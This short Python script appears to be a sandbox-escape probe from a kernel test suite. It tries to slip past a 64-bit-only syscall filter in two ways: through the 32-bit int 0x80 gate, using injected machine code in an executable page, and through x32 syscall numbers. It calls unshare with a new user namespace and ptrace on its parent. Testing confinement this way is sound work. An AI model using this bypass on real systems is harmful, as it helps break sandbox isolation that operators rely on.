# class: kernel
# tries: the 32-bit and the x32 entry points, which a filter for 64-bit numbers does not know
# network: any
import ctypes
import mmap
import os
import platform

X86 = platform.machine() == "x86_64"
libc = ctypes.CDLL(None, use_errno=True)


def call(x86, arm, *args):
    words = [ctypes.c_long(word) if isinstance(word, int) else word for word in args]
    return libc.syscall(x86 if X86 else arm, *words)


got = []
if not X86:
    print("HELD: this machine has one table")
    raise SystemExit
code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
# push rbx; mov eax, 310 (unshare); mov ebx, CLONE_NEWUSER; int 0x80; pop rbx; ret
code.write(bytes.fromhex("53 b836010000 bb00000010 cd80 5b c3"))
enter = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))
for name, attempt in (
    ("int 0x80", enter),
    ("x32 unshare", lambda: libc.syscall(0x40000000 | 272, 0x10000000)),
    ("x32 ptrace", lambda: libc.syscall(0x40000000 | 521, 0x4206, os.getppid(), 0, 0)),
):
    if os.fork() == 0:
        os.close(2)  # a crash is a good answer and needs no words
        os._exit(40 if attempt() == 0 else 0)
    got += [name] * (os.waitstatus_to_exitcode(os.wait()[1]) == 40)
print(f"ESCAPED: {got}" if got else "HELD: no other table is open")
